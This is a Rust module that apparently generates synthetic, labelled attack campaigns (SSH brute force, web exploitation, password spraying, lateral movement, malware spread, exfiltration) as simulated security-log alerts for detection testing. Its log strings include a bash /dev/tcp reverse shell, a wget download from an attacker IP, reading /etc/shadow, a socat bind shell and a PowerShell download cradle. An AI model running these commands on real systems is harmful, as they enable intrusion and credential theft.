//! Labelled attack campaigns hidden in the noise.
//!
//! A campaign is planned when the generator is built: its hosts, users and
//! attacker IPs (chosen from its tenant's assets), and its phases (how many
//! alerts, when). Its alerts are then produced lazily, one per wake-up, like
//! a noise process, so a stream of any length holds only the plan. Every
//! alert carries its campaign's id, kind and 1-based step.

use super::CampaignKind;
use super::catalog;
use super::noise::{Env, Ring, public_ip, rand_name};
use super::rng::{Rng, mix};
use super::sources::{self, FileState, FimEvent, Flow, Hashes, Owner};
use super::tenant::Tenant;
use super::windows::{self, FailReason, Logon, Process};

/// Step names of each kind, in order (a label's `step` is 1-based into this).
pub(crate) fn step_names(kind: CampaignKind) -> &'static [&'static str] {
    match kind {
        CampaignKind::SshBruteforce => {
            &["ssh_failed_logins", "bruteforce_detected", "ssh_login_success", "privilege_escalation", "persistence"]
        }
        CampaignKind::WebExploit => &["web_scan", "sql_injection", "webshell_upload", "reverse_shell"],
        CampaignKind::PasswordSpray => &["spray_attempts", "spray_detected", "valid_logon", "remote_logon"],
        CampaignKind::LateralMovement => &["remote_logons", "psexec_execution", "scheduled_task"],
        CampaignKind::MalwareSpread => &["malware_dropped", "virustotal_detection", "malware_spread"],
        CampaignKind::DataExfiltration => &["staging", "archive_creation", "exfiltration"],
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tag {
    SshFail,
    SshLogin,
    SshEscalate,
    SshPersist,
    WebScan,
    WebExploit,
    WebUpload,
    WebShell,
    SprayFail,
    SprayValid,
    SprayRemote,
    LatHop(u8),
    LatPsexec,
    LatTask,
    MalDrop,
    MalVt,
    MalSpread(u8),
    ExStage,
    ExArchive,
    ExExfil,
    ExGraph,
}

impl Tag {
    fn step(self) -> u8 {
        match self {
            Tag::SshFail | Tag::WebScan | Tag::SprayFail | Tag::LatHop(_) | Tag::MalDrop | Tag::ExStage => 1,
            Tag::WebExploit | Tag::LatPsexec | Tag::MalVt | Tag::ExArchive => 2,
            Tag::SshLogin
            | Tag::WebUpload
            | Tag::SprayValid
            | Tag::LatTask
            | Tag::MalSpread(_)
            | Tag::ExExfil
            | Tag::ExGraph => 3,
            Tag::SshEscalate | Tag::WebShell | Tag::SprayRemote => 4,
            Tag::SshPersist => 5,
        }
    }
}

#[derive(Debug, Clone, Copy)]
struct Phase {
    tag: Tag,
    count: u32,
    start: i64,
    dur: i64,
}

/// One planned campaign instance.
#[derive(Debug)]
pub(crate) struct Campaign {
    pub tenant: usize,
    pub kind: CampaignKind,
    /// `"acme/c3"`.
    pub id: String,
    phases: Vec<Phase>,
    pi: usize,
    j: u32,
    rng: Rng,
    // Entities.
    host: usize,
    hosts: Vec<usize>,
    user: usize,
    /// Attacker (or exfiltration destination) IP.
    pub ip: String,
    names: Vec<(String, bool)>,
    name: String,
    path: String,
    hashes: Hashes,
    // Runtime state.
    counters: [u32; 2],
    rings: [Ring; 2],
    pid: u32,
    serial: u64,
    /// Set when the alert just emitted is one a later alert refers to by id.
    pub want_id: bool,
    pub ref_id: String,
    first_time: i64,
}

/// Draws a log-uniform duration in minutes, returned in ms.
fn minutes(rng: &mut Rng, lo: f64, hi: f64) -> i64 {
    (rng.log_uniform(lo, hi) * 60_000.0) as i64
}

impl Campaign {
    /// Plans campaign `n` (0-based) of tenant `t`. `attacker_ip` must be
    /// distinct per campaign (the caller checks).
    pub(crate) fn plan(
        tenant: usize,
        t: &Tenant,
        n: usize,
        kind: CampaignKind,
        seed: u64,
        attacker_ip: String,
    ) -> Campaign {
        let mut rng = Rng::derive(&[seed, 0xCA_4A16, tenant as u64, n as u64]);
        let mut c = Campaign {
            tenant,
            kind,
            id: format!("{}/c{}", t.name, n + 1),
            phases: Vec::new(),
            pi: 0,
            j: 0,
            rng: Rng::derive(&[seed, 0xCA_4A17, tenant as u64, n as u64]),
            host: 0,
            hosts: Vec::new(),
            user: 3 + rng.index(t.users.len() - 3),
            ip: attacker_ip,
            names: Vec::new(),
            name: String::new(),
            path: String::new(),
            hashes: Hashes::from_key(mix(&[seed, 0x4A5, tenant as u64, n as u64])),
            counters: [0; 2],
            rings: [Ring::default(), Ring::default()],
            pid: rng.range(2_000, 60_000) as u32,
            serial: rng.range(10_000, 9_000_000),
            want_id: false,
            ref_id: String::new(),
            first_time: 0,
        };
        // (tag, count, duration, gap after) in ms before fitting.
        let mut raw: Vec<(Tag, u32, i64, i64)> = Vec::new();
        match kind {
            CampaignKind::SshBruteforce => {
                let hosts: Vec<usize> = t.internet_facing().collect();
                c.host = *rng.pick(&hosts);
                let n_fail = rng.range(24, 60) as u32;
                raw.push((
                    Tag::SshFail,
                    n_fail,
                    i64::from(n_fail) * rng.range(2_000, 7_000) as i64,
                    minutes(&mut rng, 1.0, 20.0),
                ));
                raw.push((Tag::SshLogin, 2, 1_500, minutes(&mut rng, 2.0, 30.0)));
                raw.push((
                    Tag::SshEscalate,
                    rng.range(2, 4) as u32,
                    minutes(&mut rng, 1.0, 5.0),
                    minutes(&mut rng, 5.0, 60.0),
                ));
                raw.push((Tag::SshPersist, 3, minutes(&mut rng, 2.0, 10.0), 0));
                c.name = (*rng.pick(&["sysadm", "support", "backup1", "dev-ops", "ftpadmin", "nagios2"])).to_string();
            }
            CampaignKind::WebExploit => {
                c.host = *rng.pick(&t.web);
                let n_scan = rng.range(20, 80) as u32;
                raw.push((
                    Tag::WebScan,
                    n_scan,
                    i64::from(n_scan) * rng.range(300, 1_800) as i64,
                    minutes(&mut rng, 1.0, 30.0),
                ));
                raw.push((
                    Tag::WebExploit,
                    rng.range(3, 10) as u32,
                    minutes(&mut rng, 1.0, 8.0),
                    minutes(&mut rng, 1.0, 30.0),
                ));
                raw.push((Tag::WebUpload, 1, 0, minutes(&mut rng, 1.0, 20.0)));
                raw.push((Tag::WebShell, rng.range(3, 5) as u32, minutes(&mut rng, 1.0, 10.0), 0));
                c.name = format!("{}.php", rand_name(&mut rng, 6));
            }
            CampaignKind::PasswordSpray => {
                c.host = *rng.pick(&t.dcs);
                let mut idx: Vec<usize> = (3..t.users.len()).collect();
                rng.shuffle(&mut idx);
                let n_users = idx.len().min(rng.range(16, 42) as usize);
                for i in &idx[..n_users] {
                    c.names.push((t.users[*i].name.clone(), true));
                }
                for fake in ["administrator", "admin", "test", "scanner", "helpdesk", "guest", "temp", "training"] {
                    if rng.chance(0.5) {
                        c.names.push((fake.to_string(), false));
                    }
                }
                rng.shuffle(&mut c.names);
                // The account that falls: a real user sprayed after the 8th attempt.
                let valid: Vec<usize> = (8..c.names.len()).filter(|i| c.names[*i].1).collect();
                let v =
                    if valid.is_empty() { c.names.iter().position(|n| n.1).unwrap_or(0) } else { *rng.pick(&valid) };
                c.user = t.users.iter().position(|u| u.name == c.names[v].0).unwrap_or(3);
                let n = c.names.len() as u32;
                raw.push((
                    Tag::SprayFail,
                    n,
                    i64::from(n) * rng.range(4_000, 25_000) as i64,
                    minutes(&mut rng, 2.0, 60.0),
                ));
                raw.push((Tag::SprayValid, 1, 0, minutes(&mut rng, 1.0, 30.0)));
                raw.push((Tag::SprayRemote, rng.range(1, 2) as u32, minutes(&mut rng, 0.5, 3.0), 0));
                c.name = format!("DESKTOP-{}", rand_name(&mut rng, 7).to_ascii_uppercase());
                c.hosts.push(*rng.pick(&t.win_infra));
            }
            CampaignKind::LateralMovement => {
                let k = rng.index(t.workstations.len());
                c.user = 3 + k % (t.users.len() - 3);
                c.hosts.push(t.workstations[k]);
                let mut pool: Vec<usize> = t.windows().filter(|a| *a != t.workstations[k]).collect();
                rng.shuffle(&mut pool);
                let hops = rng.range(3, 6) as usize;
                c.hosts.extend_from_slice(&pool[..hops.min(pool.len())]);
                for h in 0..c.hosts.len() - 1 {
                    raw.push((Tag::LatHop(h as u8), 1, 0, minutes(&mut rng, 1.0, 8.0)));
                }
                if let Some(last) = raw.last_mut() {
                    last.3 = minutes(&mut rng, 1.0, 20.0);
                }
                raw.push((
                    Tag::LatPsexec,
                    rng.range(1, 3) as u32,
                    minutes(&mut rng, 0.5, 4.0),
                    minutes(&mut rng, 1.0, 30.0),
                ));
                raw.push((Tag::LatTask, 1, 0, 0));
            }
            CampaignKind::MalwareSpread => {
                let k = rng.index(t.workstations.len());
                c.host = t.workstations[k];
                c.user = 3 + k % (t.users.len() - 3);
                c.name = (*rng.pick(catalog::MALWARE_NAMES)).to_string();
                let u = &t.users[c.user].name;
                c.path = match rng.below(3) {
                    0 => format!("C:\\Users\\{u}\\AppData\\Roaming\\{}", c.name),
                    1 => format!("C:\\ProgramData\\{}", c.name),
                    _ => format!("C:\\Users\\Public\\{}", c.name),
                };
                let mut pool: Vec<usize> = t.windows().filter(|a| *a != c.host).collect();
                rng.shuffle(&mut pool);
                let spread = rng.range(2, 4) as usize;
                c.hosts.extend_from_slice(&pool[..spread.min(pool.len())]);
                raw.push((Tag::MalDrop, 3, rng.range(20_000, 120_000) as i64, rng.range(5_000, 60_000) as i64));
                raw.push((Tag::MalVt, 1, 0, minutes(&mut rng, 20.0, 120.0)));
                for h in 0..c.hosts.len() {
                    let gap = if h + 1 == c.hosts.len() { 0 } else { minutes(&mut rng, 10.0, 60.0) };
                    raw.push((Tag::MalSpread(h as u8), rng.range(2, 3) as u32, rng.range(5_000, 90_000) as i64, gap));
                }
            }
            CampaignKind::DataExfiltration => {
                let k = rng.index(t.workstations.len());
                c.host = t.workstations[k];
                c.user = 3 + k % (t.users.len() - 3);
                c.name = (*rng.pick(catalog::EXFIL_DOMAINS)).to_string();
                raw.push((
                    Tag::ExStage,
                    rng.range(2, 4) as u32,
                    minutes(&mut rng, 2.0, 20.0),
                    minutes(&mut rng, 2.0, 60.0),
                ));
                raw.push((
                    Tag::ExArchive,
                    rng.range(1, 2) as u32,
                    minutes(&mut rng, 0.5, 3.0),
                    minutes(&mut rng, 1.0, 30.0),
                ));
                raw.push((
                    Tag::ExExfil,
                    rng.range(3, 8) as u32,
                    minutes(&mut rng, 2.0, 25.0),
                    minutes(&mut rng, 3.0, 15.0),
                ));
                raw.push((Tag::ExGraph, 1, 0, 0));
            }
        }
        let mut at = 0;
        for (tag, count, dur, gap) in raw {
            c.phases.push(Phase { tag, count, start: at, dur });
            at += dur + gap;
        }
        c
    }

    /// Number of alerts this campaign emits.
    pub(crate) fn total(&self) -> u64 {
        self.phases.iter().map(|p| u64::from(p.count)).sum()
    }

    /// Span from the first to the last phase start plus its duration.
    pub(crate) fn span(&self) -> i64 {
        self.phases.last().map(|p| p.start + p.dur).unwrap_or(0)
    }

    /// Compresses the timeline by `scale` (≤ 1) and moves it to `start`.
    /// Returns the time of the first alert.
    pub(crate) fn place(&mut self, start: i64, scale: f64) -> i64 {
        for p in &mut self.phases {
            p.start = start + (p.start as f64 * scale) as i64;
            p.dur = (p.dur as f64 * scale) as i64;
        }
        self.first_time = self.slot_time();
        self.first_time
    }

    fn slot_time(&mut self) -> i64 {
        let p = self.phases[self.pi];
        let u = self.rng.f64();
        p.start + ((f64::from(self.j) + u) / f64::from(p.count) * p.dur as f64) as i64
    }

    /// Emits the next alert into `e.d`. Returns the label step and the
    /// time of the following alert (None when the campaign is over).
    pub(crate) fn emit(&mut self, e: &mut Env<'_>) -> (u8, Option<i64>) {
        let phase = self.phases[self.pi];
        let step = self.write(e, phase.tag, self.j, phase.count);
        self.j += 1;
        if self.j >= phase.count {
            self.j = 0;
            self.pi += 1;
            if self.pi >= self.phases.len() {
                return (step, None);
            }
        }
        let next = self.slot_time().max(e.now);
        (step, Some(next))
    }

    #[allow(clippy::too_many_lines)]
    fn write(&mut self, e: &mut Env<'_>, tag: Tag, j: u32, count: u32) -> u8 {
        let mut step = tag.step();
        let r = &mut self.rng;
        let t: &mut Tenant = &mut *e.t;
        let d = &mut *e.d;
        let ts = e.ts;
        let domain = t.domain.clone();
        let uname = t.users[self.user].name.clone();
        let user_sid = format!("{}-{}", t.sid, t.users[self.user].rid);
        match tag {
            Tag::SshFail => {
                let port = r.range(32_768, 60_999) as u16;
                self.pid += r.range(1, 9) as u32;
                // Hydra starts with a list of common (non-existent) users.
                let invalid = j < 8 || r.chance(0.65);
                let k = usize::from(!invalid);
                self.counters[k] += 1;
                let threshold = self.counters[k] == 8;
                if threshold {
                    self.counters[k] = 0;
                    step = 2;
                }
                if invalid {
                    let user = *r.pick(catalog::BOT_USERS);
                    sources::sshd_invalid_user(
                        d,
                        t,
                        self.host,
                        ts,
                        if threshold { 5712 } else { 5710 },
                        self.pid,
                        &self.ip,
                        port,
                        user,
                    );
                } else {
                    let user = if r.chance(0.6) { "root" } else { uname.as_str() };
                    sources::sshd_failed_password(
                        d,
                        t,
                        self.host,
                        ts,
                        if threshold { 5720 } else { 5716 },
                        self.pid,
                        &self.ip,
                        port,
                        user,
                    );
                }
                if threshold {
                    self.rings[k].write_newest_first(&mut d.previous_output);
                    self.rings[k].clear();
                } else {
                    self.rings[k].push(e.now, &d.full_log, 7);
                }
            }
            Tag::SshLogin => {
                let port = r.range(32_768, 60_999) as u16;
                self.pid += r.range(1, 9) as u32;
                let uid = t.users[self.user].uid;
                if j == 0 {
                    sources::sshd_accepted(d, t, self.host, ts, self.pid, &self.ip, port, &uname, None);
                } else {
                    sources::pam_session(d, t, self.host, ts, self.pid, &uname, uid, true);
                }
            }
            Tag::SshEscalate => {
                const CMDS: [&str; 4] = [
                    "/bin/bash",
                    "/usr/bin/cat /etc/shadow",
                    "/usr/bin/id",
                    "/usr/bin/wget -q -O /tmp/.x http://{ip}/x",
                ];
                let cmd = if j == 0 {
                    "/usr/bin/su -".to_string()
                } else {
                    CMDS[(j as usize - 1) % CMDS.len()].replace("{ip}", &self.ip)
                };
                let rule = if j == 0 { 5403 } else { 5402 };
                sources::sudo(d, t, self.host, ts, rule, &uname, Some("pts/1"), &format!("/home/{uname}"), &cmd);
            }
            Tag::SshPersist => {
                let pid = r.range(2_000, 60_000) as u32;
                let uid = 1000 + r.range(300, 600) as u32;
                match j {
                    0 => sources::groupadd(d, t, self.host, ts, pid, &self.name, uid),
                    1 => sources::useradd(d, t, self.host, ts, pid, &self.name, uid, "/bin/bash"),
                    _ => sources::crontab_root(d, t, self.host, ts, pid),
                }
            }
            Tag::WebScan => {
                let url = if r.chance(0.7) {
                    format!("/{}{}", r.pick(catalog::DIRB_WORDS), r.pick(catalog::DIRB_EXT))
                } else {
                    (*r.pick(catalog::SCAN_PATHS)).to_string()
                };
                let fire =
                    self.counters[0] == 0 && self.rings[0].len() >= 13 && e.now - self.rings[0].oldest() <= 90_000;
                let rule = if fire { 31151 } else { 31101 };
                sources::web_access(
                    d,
                    t,
                    self.host,
                    ts,
                    rule,
                    &self.ip,
                    "GET",
                    &url,
                    404,
                    162,
                    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
                );
                if fire {
                    self.rings[0].write_newest_first(&mut d.previous_output);
                    self.counters[0] = 1;
                }
                self.rings[0].push(e.now, &d.full_log, 13);
            }
            Tag::WebExploit => {
                let url = *r.pick(catalog::SQLI_URLS);
                let success = j + 2 >= count && j > 0;
                let (rule, status, size) = if success {
                    (31106, 200, r.range(2_000, 40_000) as u32)
                } else if j.is_multiple_of(2) {
                    (31103, 500, 612)
                } else {
                    (31164, 500, 612)
                };
                sources::web_access(
                    d,
                    t,
                    self.host,
                    ts,
                    rule,
                    &self.ip,
                    "GET",
                    url,
                    status,
                    size,
                    "sqlmap/1.8.4#stable (https://sqlmap.org)",
                );
            }
            Tag::WebUpload => {
                let path = format!("/var/www/html/uploads/{}", self.name);
                let st = FileState {
                    size: 1_000 + self.hashes.md5[0] as u64 * 7,
                    mtime: e.now / 1000,
                    hashes: self.hashes,
                    inode: 2_500_000 + u64::from(self.hashes.md5[1]) * 13,
                };
                let owner = Owner { uname: "www-data", gname: "www-data", uid: 33, gid: 33, perm: "rw-r--r--" };
                sources::fim(d, t, self.host, FimEvent::Added, &path, "realtime", None, &st, &owner);
            }
            Tag::WebShell => {
                if j + 1 == count {
                    let before: &[(u16, &str)] =
                        &[(22, "812/sshd"), (80, "1022/nginx"), (443, "1022/nginx"), (1514, "1180/wazuh-agentd")];
                    sources::netstat_changed(d, self.host, before, (31337, "28812/socat"));
                } else {
                    self.serial += r.range(3, 300);
                    let ppid = 21_000 + r.range(0, 500) as u32;
                    let pid = ppid + r.range(1, 50) as u32;
                    let cwd = "/var/www/html/uploads";
                    let rev = format!("bash -i >& /dev/tcp/{}/4444 0>&1", self.ip);
                    let sock = "socat TCP-LISTEN:31337,reuseaddr,fork EXEC:/bin/bash,pty,stderr,setsid,sigint,sane";
                    let argv: Vec<&str> = match j {
                        0 => vec!["bash", "-c", &rev],
                        1 => vec!["python3", "-c", "import pty;pty.spawn(\"/bin/bash\")"],
                        2 => vec!["uname", "-a"],
                        _ => vec!["sh", "-c", sock],
                    };
                    let exe = match argv[0] {
                        "python3" => "/usr/bin/python3.12",
                        "uname" => "/usr/bin/uname",
                        "sh" => "/usr/bin/dash",
                        _ => "/usr/bin/bash",
                    };
                    sources::audit_command(d, self.host, ts, self.serial, ppid, pid, 33, cwd, exe, &argv);
                }
            }
            Tag::SprayFail => {
                let (name, exists) = &self.names[j as usize];
                self.counters[0] += 1;
                let threshold = self.counters[0] == 8;
                if threshold {
                    self.counters[0] = 0;
                    step = 2;
                }
                let reason = if *exists { FailReason::BadPassword } else { FailReason::NoSuchUser };
                let port = r.range(40_000, 65_000) as u16;
                windows::logon_failure(
                    d,
                    t,
                    self.host,
                    ts,
                    r,
                    if threshold { 60204 } else { 60122 },
                    name,
                    &self.ip,
                    port,
                    &self.name,
                    reason,
                );
            }
            Tag::SprayValid => {
                let port = r.range(40_000, 65_000) as u16;
                let l = Logon {
                    user: &uname,
                    domain: &domain,
                    user_sid: &user_sid,
                    logon_type: 3,
                    ip: &self.ip,
                    port,
                    workstation: &self.name,
                    auth: "NTLM",
                    elevated: false,
                };
                windows::logon_success(d, t, self.host, ts, r, 60106, &l);
            }
            Tag::SprayRemote => {
                let target = self.hosts[0];
                let port = r.range(40_000, 65_000) as u16;
                let l = Logon {
                    user: &uname,
                    domain: &domain,
                    user_sid: &user_sid,
                    logon_type: 10,
                    ip: &self.ip,
                    port,
                    workstation: &self.name,
                    auth: "NTLM",
                    elevated: false,
                };
                windows::logon_success(d, t, target, ts, r, 92657, &l);
            }
            Tag::LatHop(h) => {
                let h = usize::from(h);
                let (src, dst) = (self.hosts[h], self.hosts[h + 1]);
                let ip = t.agents[src].ip.clone();
                let ws = t.agents[src].netbios.clone();
                // Both flavours appear: NTLM (pass-the-hash style) and Kerberos RDP.
                let ntlm = match h {
                    0 => true,
                    1 => false,
                    _ => r.chance(0.5),
                };
                let port = r.range(49_152, 65_000) as u16;
                let l = Logon {
                    user: &uname,
                    domain: &domain,
                    user_sid: &user_sid,
                    logon_type: 10,
                    ip: &ip,
                    port,
                    workstation: &ws,
                    auth: if ntlm { "NTLM" } else { "Negotiate" },
                    elevated: true,
                };
                windows::logon_success(d, t, dst, ts, r, if ntlm { 92657 } else { 92653 }, &l);
            }
            Tag::LatPsexec => {
                let last = *self.hosts.last().unwrap_or(&self.host);
                let src_ip = t.agents[self.hosts[self.hosts.len().saturating_sub(2)]].ip.clone();
                let dl = format!(
                    "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{src_ip}:8080/a.ps1')\""
                );
                let cmd: &str = match j {
                    0 => "cmd.exe /c whoami /all",
                    1 => "cmd.exe /c net group \"Domain Admins\" /domain",
                    _ => &dl,
                };
                let image = if cmd.starts_with("powershell") {
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
                } else {
                    "C:\\Windows\\System32\\cmd.exe"
                };
                let user = format!("{domain}\\{uname}");
                let h = Hashes::from_key(mix(&[0xC0DE, image.len() as u64]));
                let p = Process {
                    image,
                    command_line: cmd,
                    current_directory: "C:\\Windows\\system32\\",
                    user: &user,
                    integrity: "High",
                    parent_image: "C:\\Windows\\PSEXESVC.exe",
                    parent_command_line: "C:\\Windows\\PSEXESVC.exe",
                    description: if image.ends_with("cmd.exe") {
                        "Windows Command Processor"
                    } else {
                        "Windows PowerShell"
                    },
                    product: "Microsoft® Windows® Operating System",
                    company: "Microsoft Corporation",
                    original_file_name: if image.ends_with("cmd.exe") { "Cmd.Exe" } else { "PowerShell.EXE" },
                    hashes: &h,
                };
                windows::sysmon_process(d, t, last, ts, r, 92068, &p);
            }
            Tag::LatTask => {
                let last = *self.hosts.last().unwrap_or(&self.host);
                windows::task_created(
                    d,
                    t,
                    last,
                    ts,
                    r,
                    &uname,
                    &user_sid,
                    "\\Microsoft\\Windows\\WindowsUpdate\\UpdateCheck",
                    "C:\\Windows\\Temp\\wuauclt64.exe",
                    "-k netsvcs",
                );
            }
            Tag::MalDrop => {
                let user = format!("{domain}\\{uname}");
                match j {
                    0 => {
                        let image = if r.chance(0.5) {
                            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
                        } else {
                            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
                        };
                        windows::sysmon_file_created(d, t, self.host, ts, r, 92213, image, &self.path, &user);
                    }
                    1 => {
                        let st = file_state(&self.hashes, e.now);
                        let lower = self.path.to_ascii_lowercase();
                        let owner = Owner { uname: &user, gname: "", uid: 0, gid: 0, perm: "" };
                        sources::fim(d, t, self.host, FimEvent::Added, &lower, "realtime", None, &st, &owner);
                        self.want_id = true;
                    }
                    _ => {
                        let p = Process {
                            image: &self.path,
                            command_line: &format!("\"{}\" /silent", self.path),
                            current_directory: &format!("C:\\Users\\{uname}\\Downloads\\"),
                            user: &user,
                            integrity: "Medium",
                            parent_image: "C:\\Windows\\explorer.exe",
                            parent_command_line: "C:\\Windows\\Explorer.EXE",
                            description: "Setup",
                            product: "-",
                            company: "-",
                            original_file_name: "stub.exe",
                            hashes: &self.hashes,
                        };
                        windows::sysmon_process(d, t, self.host, ts, r, 92066, &p);
                    }
                }
            }
            Tag::MalVt => {
                let lower = self.path.to_ascii_lowercase();
                let positives = 38 + (self.hashes.sha1[0] % 30) as u32;
                sources::virustotal(d, self.host, ts, &self.ref_id, &lower, &self.hashes, positives, 72);
            }
            Tag::MalSpread(h) => {
                let host = self.hosts[usize::from(h)];
                let target = format!("C:\\ProgramData\\{}", self.name);
                match j {
                    0 => windows::sysmon_file_created(
                        d,
                        t,
                        host,
                        ts,
                        r,
                        92213,
                        "System",
                        &target,
                        "NT AUTHORITY\\SYSTEM",
                    ),
                    1 => {
                        let st = file_state(&self.hashes, e.now);
                        let lower = target.to_ascii_lowercase();
                        let owner = Owner { uname: "NT AUTHORITY\\SYSTEM", gname: "", uid: 0, gid: 0, perm: "" };
                        sources::fim(d, t, host, FimEvent::Added, &lower, "realtime", None, &st, &owner);
                    }
                    _ => {
                        let p = Process {
                            image: &target,
                            command_line: &format!("\"{target}\" -svc"),
                            current_directory: "C:\\Windows\\system32\\",
                            user: "NT AUTHORITY\\SYSTEM",
                            integrity: "System",
                            parent_image: "C:\\Windows\\System32\\services.exe",
                            parent_command_line: "C:\\Windows\\system32\\services.exe",
                            description: "Setup",
                            product: "-",
                            company: "-",
                            original_file_name: "stub.exe",
                            hashes: &self.hashes,
                        };
                        windows::sysmon_process(d, t, host, ts, r, 92066, &p);
                    }
                }
            }
            Tag::ExStage => {
                let user = format!("{domain}\\{uname}");
                let fs = t
                    .win_servers
                    .first()
                    .map(|a| t.agents[*a].name.clone())
                    .unwrap_or_else(|| t.agents[t.dcs[0]].name.clone());
                match j % 3 {
                    0 => {
                        let target = format!("C:\\Users\\{uname}\\AppData\\Local\\Temp\\collect.ps1");
                        windows::sysmon_file_created(
                            d,
                            t,
                            self.host,
                            ts,
                            r,
                            92200,
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            &target,
                            &user,
                        );
                    }
                    k => {
                        let cmd = if k == 1 {
                            format!("cmd.exe /c dir /s /b \\\\{fs}\\finance\\*.xlsx > C:\\Users\\Public\\list.txt")
                        } else {
                            format!("cmd.exe /c robocopy \\\\{fs}\\finance C:\\Users\\Public\\stage /E /R:0")
                        };
                        let h = Hashes::from_key(0xC0DE_0001);
                        let p = Process {
                            image: "C:\\Windows\\System32\\cmd.exe",
                            command_line: &cmd,
                            current_directory: &format!("C:\\Users\\{uname}\\"),
                            user: &user,
                            integrity: "Medium",
                            parent_image: "C:\\Windows\\System32\\wscript.exe",
                            parent_command_line: &format!(
                                "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{uname}\\Downloads\\invoice.vbs\""
                            ),
                            description: "Windows Command Processor",
                            product: "Microsoft® Windows® Operating System",
                            company: "Microsoft Corporation",
                            original_file_name: "Cmd.Exe",
                            hashes: &h,
                        };
                        windows::sysmon_process(d, t, self.host, ts, r, 92052, &p);
                    }
                }
            }
            Tag::ExArchive => {
                let user = format!("{domain}\\{uname}");
                let cmd = format!(
                    "C:\\ProgramData\\7za.exe a -tzip -mx9 -pQ4-r3p0rt! C:\\Users\\Public\\stage\\q{}.zip C:\\Users\\Public\\stage\\*",
                    j + 1
                );
                let h = Hashes::from_key(0x7A_0001);
                let p = Process {
                    image: "C:\\ProgramData\\7za.exe",
                    command_line: &cmd,
                    current_directory: "C:\\Users\\Public\\stage\\",
                    user: &user,
                    integrity: "Medium",
                    parent_image: "C:\\Windows\\System32\\cmd.exe",
                    parent_command_line: "cmd.exe /c C:\\Users\\Public\\pack.bat",
                    description: "7-Zip Standalone Console",
                    product: "7-Zip",
                    company: "Igor Pavlov",
                    original_file_name: "7za.exe",
                    hashes: &h,
                };
                windows::sysmon_process(d, t, self.host, ts, r, 92067, &p);
            }
            Tag::ExExfil => {
                let sig = catalog::IDS_EXFIL[(j as usize) % catalog::IDS_EXFIL.len()];
                let (dport, app) = match sig.sid {
                    2034155 => (53, Some("dns")),
                    2036232 => (443, Some("tls")),
                    _ => (80, Some("http")),
                };
                let src = t.agents[self.host].ip.clone();
                let flow = Flow {
                    src: &src,
                    sport: r.range(49_152, 65_000) as u16,
                    dst: &self.ip,
                    dport,
                    proto: if dport == 53 { "UDP" } else { "TCP" },
                    app,
                };
                sources::suricata(d, t, ts, r, &sig, &flow);
            }
            Tag::ExGraph => {
                sources::msgraph_exfiltration(d, t, ts, r, self.host, &uname, &self.ip, self.first_time);
            }
        }
        step
    }
}

/// The dropped malware file as syscheck sees it.
fn file_state(hashes: &Hashes, now: i64) -> FileState {
    FileState { size: 180_000 + u64::from(hashes.sha256[0]) * 1_024, mtime: now / 1000, hashes: *hashes, inode: 0 }
}

/// A fresh external IP not used by another campaign nor a known scanner.
pub(crate) fn attacker_ip(rng: &mut Rng, taken: &mut std::collections::BTreeSet<String>) -> String {
    loop {
        let ip = public_ip(rng);
        if taken.insert(ip.clone()) {
            return ip;
        }
    }
}
